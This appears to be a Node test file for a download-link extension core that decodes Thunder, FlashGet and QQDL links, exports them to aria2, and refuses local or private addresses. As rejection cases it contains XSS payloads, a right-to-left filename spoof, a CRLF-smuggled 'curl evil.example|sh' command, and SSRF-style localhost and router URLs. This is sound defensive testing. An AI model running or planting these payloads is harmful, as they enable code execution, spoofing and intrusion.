// The extension's binding under Node: links as pages hold them opened to the address, the
// downloader's URI and the name, refusals with their reasons in both languages, and the
// hand-off forms with their notes.
//   node binding_test.js path/to/zentrova_core.js
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const path = require('node:path');
const {thunder, flashget, qqdl, gbk} = require('./links');

const ZentrovaCore = require(path.resolve(process.argv[2]));
let core;
test.before(async () => { core = await ZentrovaCore(); });

const film = gbk('http://a.example/电影 第1集.mkv');
const statuses = {c: 'converted', p: 'passedThrough', f: 'failed', b: 'blank'};
const open = (links, chinese, names = true) => JSON.parse(core.openLinks(links.join('\n'), chinese, names)).map(
    ([status, first, uri, name, local]) => (status === 'f' ? {status: statuses[status], error: first} :
                                            status === 'b' ? {status: statuses[status]} :
                                            {status: statuses[status], address: first, uri,
                                             ...(name ? {name} : {}), ...(local ? {local} : {})}));

test('links as pages hold them open to the address, the escaped bytes and the name', () => {
  const rows = [
    // [link, status, address, uri, name]
    [thunder('http://a.example/b.zip'), 'converted', 'http://a.example/b.zip',
     'http://a.example/b.zip', 'b.zip'],
    [thunder(film), 'converted', 'http://a.example/电影 第1集.mkv',
     'http://a.example/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv', '电影 第1集.mkv'],
    [qqdl(Buffer.from('https://a.example/影片.mp4')), 'converted', 'https://a.example/影片.mp4',
     'https://a.example/%E5%BD%B1%E7%89%87.mp4', '影片.mp4'],
    [flashget('ftp://a.example/x.iso', true), 'converted', 'ftp://a.example/x.iso',
     'ftp://a.example/x.iso', 'x.iso'],
    [`THUNDER%3A%2F%2F${thunder('http://a.example/c.rar').slice(10)}`, 'converted',
     'http://a.example/c.rar', 'http://a.example/c.rar', 'c.rar'],
    [thunder(flashget('http://a.example/nested.7z')), 'converted', 'http://a.example/nested.7z',
     'http://a.example/nested.7z', 'nested.7z'],
    [thunder('magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567'), 'converted',
     'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567',
     'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567', null],
    ['http://a.example/plain.zip', 'passedThrough', 'http://a.example/plain.zip',
     'http://a.example/plain.zip', 'plain.zip'],
  ];
  const results = open(rows.map((row) => row[0]), true);
  assert.equal(results.length, rows.length);
  rows.forEach(([link, status, address, uri, name], i) => {
    assert.deepEqual(results[i], {status, address, uri, ...(name ? {name} : {})}, link);
  });
});

test('links that must not open fail with their reason, in the language asked for', () => {
  const rows = [
    // [link, Chinese reason holds, English reason holds]
    [thunder('javascript:alert(document.domain)//'), 'javascript:', 'javascript:'],
    [qqdl('data:text/html,<script>alert(1)</script>'), 'data:', 'data:'],
    ['thunder://!!!!', 'Base64', 'Base64'],
    [thunder('http://a.example/下载\u202Egpj.exe'), 'U+202E', 'U+202E'],
    [thunder('http://a.example/\r\ncurl evil.example|sh'), 'U+000D', 'U+000D'],
  ];
  const chinese = open(rows.map((row) => row[0]), true);
  const english = open(rows.map((row) => row[0]), false);
  rows.forEach(([link, inChinese, inEnglish], i) => {
    assert.equal(chinese[i].status, 'failed', link);
    assert.equal(english[i].status, 'failed', link);
    assert.ok(chinese[i].error.includes(inChinese), chinese[i].error);
    assert.match(chinese[i].error, /[\u4e00-\u9fff]/, 'said in Chinese');
    assert.ok(english[i].error.includes(inEnglish), english[i].error);
    assert.doesNotMatch(english[i].error, /[\u4e00-\u9fff]/, 'said in English');
    assert.equal(chinese[i].uri, undefined, 'no address to follow');
  });
});

test('every line gives one result, whatever its characters; blank lines too', () => {
  const lone = 'http://a.example/\ud800x"\\\u0001';
  const lines = ['', thunder('http://a.example/😀.zip'), lone, '  ', thunder('http://a.example/q"\\.zip')];
  const results = open(lines, false);
  assert.deepEqual(results.map((r) => r.status),
                   ['blank', 'converted', 'failed', 'blank', 'converted']);
  assert.equal(results[1].address, 'http://a.example/😀.zip');
  assert.equal(results[1].uri, 'http://a.example/%F0%9F%98%80.zip');
  assert.equal(results[4].address, 'http://a.example/q"\\.zip');
  assert.equal(open([lone], false)[0].status, 'failed');
  // What the content scripts ask for: no names.
  assert.deepEqual(open([lines[1]], false, false),
                   [{status: 'converted', address: 'http://a.example/😀.zip',
                     uri: 'http://a.example/%F0%9F%98%80.zip'}]);
});

test('the hand-off forms are the lists\' forms, with notes on what they leave out', () => {
  const items = [thunder(film), 'thunder://!!!!', thunder('ed2k://|file|x.avi|1|0123|/'),
                 thunder('http://a.example/b.zip'), qqdl('http://a.example/b.zip')];
  const aria2 = core.handOff(items, 'aria2', true);
  assert.equal(aria2.text, 'http://a.example/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv\n' +
                           '  out=电影 第1集.mkv\nhttp://a.example/b.zip\n  out=b.zip\n');
  assert.deepEqual(aria2.notes.map((n) => n.number), [2, 3]);
  assert.match(aria2.notes[1].words, /ed2k/);
  assert.match(aria2.notes[1].words, /[\u4e00-\u9fff]/);

  const ef2 = core.handOff(items, 'ef2', false);
  assert.equal(ef2.text, '<\r\nhttp://a.example/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv\r\n>\r\n' +
                         '<\r\nhttp://a.example/b.zip\r\n>\r\n');
  assert.deepEqual(ef2.notes.map((n) => n.number), [2, 3]);
  assert.doesNotMatch(ef2.notes[0].words, /[\u4e00-\u9fff]/);

  const json = core.handOff(items.slice(0, 2), 'json', false).text.trim().split('\n')
                   .map((line) => JSON.parse(line));
  assert.equal(json[0].uri, 'http://a.example/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv');
  assert.equal(json[0].name, '电影 第1集.mkv');
  assert.ok(json[1].error);
  assert.throws(() => core.handOff(items, 'html', false));
});

test('the background is told which addresses are on this machine, never to be sent to aria2', () => {
  const rows = [
    // [address, on this machine]
    ['http://localhost:6800/jsonrpc?method=aria2.addUri', true],
    ['http://127.1:6800/jsonrpc', true],
    ['http://[::1]:6800/jsonrpc', true],
    ['http://2130706433:6800/jsonrpc', true],
    ['http://a.example:6800/jsonrpc', false],
    ['magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567', false],
  ];
  const results = open(rows.map(([address]) => thunder(address)), false);
  rows.forEach(([address, local], i) => {
    assert.equal(results[i].status, 'converted', address);
    assert.equal(results[i].local === true, local, address);
  });
  // Links opened in place keep such an address: a page can link there without us.
  assert.equal(JSON.parse(core.openLinks(thunder(rows[0][0]), false, false))[0].length, 3);
});

test('a link longer than any real one fails with its reason, and its neighbours still open', () => {
  const long = thunder(`http://a.example/${'x'.repeat(70000)}.zip`);
  const results = open([thunder('http://a.example/b.zip'), long, qqdl('http://a.example/c.zip')], true);
  assert.deepEqual(results.map((r) => r.status), ['converted', 'failed', 'converted']);
  assert.match(results[1].error, /64 KiB/);
  assert.match(results[1].error, /[\u4e00-\u9fff]/);
  const exported = core.handOff([long, thunder('http://a.example/b.zip')], 'aria2', false);
  assert.equal(exported.text, 'http://a.example/b.zip\n  out=b.zip\n');
  assert.deepEqual(exported.notes.map((n) => n.number), [1]);
  assert.match(exported.notes[0].words, /64 KiB/);
});

test('more text than one call takes: the lines beyond it fail, each line still has its result', () => {
  const link = thunder(`http://a.example/${'y'.repeat(40000)}.zip`);
  const lines = Array.from({length: 400}, () => link);  // about 21 million characters
  const results = open(lines, false, false);
  assert.equal(results.length, lines.length);
  assert.equal(results[0].status, 'converted');
  assert.equal(results.at(-1).status, 'failed');
  assert.match(results.at(-1).error, /too many links at once/);
});

test('the hand-off hands back the downloads it wrote as data, beside their text', () => {
  const magnet = 'magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567';
  const items = [thunder(film), thunder('ed2k://|file|x.avi|1|0123|/'), thunder(magnet),
                 qqdl('http://a.example/b.zip'), 'thunder://!!!!', thunder('http://a.example/b.zip')];
  const aria2 = core.handOff(items, 'aria2', false);
  assert.deepEqual(aria2.downloads, [
    {uri: 'http://a.example/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv', name: '电影 第1集.mkv'},
    {uri: magnet, name: null},
    {uri: 'http://a.example/b.zip', name: 'b.zip'},
  ]);
  assert.equal(aria2.text, aria2.downloads.map(({uri, name}) => `${uri}\n${name ? `  out=${name}\n` : ''}`)
                               .join(''));
  assert.deepEqual(core.handOff(items, 'json', false).downloads, []);
});

test('a link longer than any real one keeps its line in the lines and JSON forms', () => {
  const long = thunder(`http://a.example/${'x'.repeat(70000)}.zip`);
  const items = [long, thunder('http://a.example/b.zip')];
  assert.equal(core.handOff(items, 'lines', false).text, '\nhttp://a.example/b.zip\n');
  const json = core.handOff(items, 'json', false).text.trim().split('\n').map((line) => JSON.parse(line));
  assert.deepEqual(json.map((object) => object.line), [1, 2]);
  assert.match(json[0].error, /64 KiB/);
});

test('before a check, the core refuses this machine and private networks, and knows what a browser cannot ask', () => {
  const rows = [
    // [address, state or null (to be asked), reason holds]
    ['http://127.0.0.1/a.zip', 'refused', /this machine/],
    ['http://localhost:8080/a.zip', 'refused', /this machine/],
    ['http://127.1/a.zip', 'refused', /this machine/],
    ['http://[::1]/a.zip', 'refused', /this machine/],
    ['http://x.localhost/a.zip', 'refused', /this machine/],
    ['http://10.0.0.1/a.zip', 'refused', /private network/],
    ['https://192.168.1.1/cgi-bin/reboot', 'refused', /private network/],
    ['http://[fd00::1]/a.zip', 'refused', /private network/],
    ['http://224.0.0.1/a.zip', 'refused', /reserved range/],
    ['ftp://a.example/x.iso', 'unknown', /browser cannot ask an FTP server/],
    ['ed2k://|file|x.avi|1|0123|/', 'unknown', /peers/],
    ['magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567', 'unknown', /peers/],
    ['http://a.example/a.zip', null, null],
    ['https://files.test:8443/b.mkv', null, null],
  ];
  for (const [address, state, reason] of rows) {
    const verdict = core.checkBefore(address, false);
    if (state === null) {
      assert.equal(verdict, null, address);
      continue;
    }
    assert.equal(verdict.state, state, address);
    assert.match(verdict.reason, reason, address);
    assert.equal(verdict.download, state === 'unknown', address);
    assert.deepEqual([verdict.status, verdict.size, verdict.final], [null, null, null], address);
  }
});

test('what the browser heard is judged by the core: status, type, size and where it led', () => {
  const address = 'http://a.example/film.mkv';
  const heard = (fields) => ({status: 200, type: '', contentLength: '', contentRange: '',
                              final: address, redirected: false, ...fields});
  const rows = [
    // [what, heard, state, status, size, final, reason holds]
    ['a file', heard({type: 'video/x-matroska', contentLength: '70000'}), 'alive', 200, 70000, null, null],
    ['a ranged answer', heard({status: 206, contentLength: '1', contentRange: 'bytes 0-0/70000'}),
     'alive', 206, 70000, null, null],
    ['gone', heard({status: 404}), 'dead', 404, null, null, /no longer has/],
    ['gone for good', heard({status: 410}), 'dead', 410, null, null, /no longer has/],
    ['a removed file\'s page', heard({type: 'text/html; charset=utf-8', contentLength: '512'}),
     'dead', 200, null, null, /web page answered/],
    ['a login', heard({status: 403}), 'unknown', 403, null, null, /login/],
    ['a failing server', heard({status: 503}), 'unknown', 503, null, null, /failed/],
    ['redirected to a file', heard({final: 'http://b.example/film.mkv', redirected: true, contentLength: '5'}),
     'alive', 200, 5, 'http://b.example/film.mkv', null],
    ['written anew, not redirected', heard({final: 'http://A.EXAMPLE:80/film.mkv'}), 'alive', 200,
     null, null, null],
    ['redirected here', heard({final: 'http://127.0.0.1:6800/jsonrpc', redirected: true}), 'refused',
     null, null, 'http://127.0.0.1:6800/jsonrpc', /redirects to this machine/],
    ['redirected to a router', heard({status: 404, final: 'http://192.168.0.1/', redirected: true}),
     'refused', null, null, 'http://192.168.0.1/', /redirects to a private network/],
    ['no answer in time', {failure: 'timeout'}, 'unknown', null, null, null, /no answer in time/],
    ['no answer at all', {failure: 'network'}, 'unknown', null, null, null, /could not reach/],
  ];
  for (const [what, answer, state, status, size, final, reason] of rows) {
    const verdict = core.judgeAnswer(answer, address, false);
    assert.deepEqual([verdict.state, verdict.status, verdict.size, verdict.final],
                     [state, status, size, final], what);
    if (reason) assert.match(verdict.reason, reason, what); else assert.equal(verdict.reason, null, what);
    assert.equal(verdict.download, state === 'alive' || state === 'unknown', what);
  }
  assert.equal(core.judgeAnswer(heard({type: 'Video/MP4; x=1'}), address, false).type, 'video/mp4');
  // The words beside the address are the command line's.
  const words = [
    [heard({contentLength: '3000', type: 'application/zip'}), false, 'alive (2.9 KiB, application/zip)'],
    [heard({status: 404}), false, 'dead: the server no longer has the file (404)'],
    [heard({status: 206, contentRange: 'bytes 0-0/123456789'}), true, '有效（117.7 MiB）'],
    [{failure: 'network'}, true, /^不明：浏览器无法连到服务器/],
  ];
  for (const [answer, chinese, expected] of words) {
    const said = core.judgeAnswer(answer, address, chinese).words;
    if (typeof expected === 'string') assert.equal(said, expected); else assert.match(said, expected);
  }
  // An address refused before asking stays refused, whatever is said to have answered.
  assert.equal(core.judgeAnswer(heard({}), 'http://10.0.0.1/film.mkv', false).state, 'refused');
});

test('the check\'s own reasons are said in Chinese as the other core words are', () => {
  const rows = [
    core.checkBefore('ftp://a.example/x.iso', true),
    core.judgeAnswer({failure: 'network'}, 'http://a.example/x.zip', true),
    core.judgeAnswer({status: 200, final: 'http://127.0.0.1/x', redirected: true}, 'http://a.example/x.zip', true),
    core.judgeAnswer({status: 200, final: 'http://10.0.0.2/x', redirected: true}, 'http://a.example/x.zip', true),
  ];
  for (const verdict of rows) {
    assert.match(verdict.reason, /[\u4e00-\u9fff]/, verdict.reason);
  }
  assert.doesNotMatch(core.checkBefore('ftp://a.example/x.iso', false).reason, /[\u4e00-\u9fff]/);
});
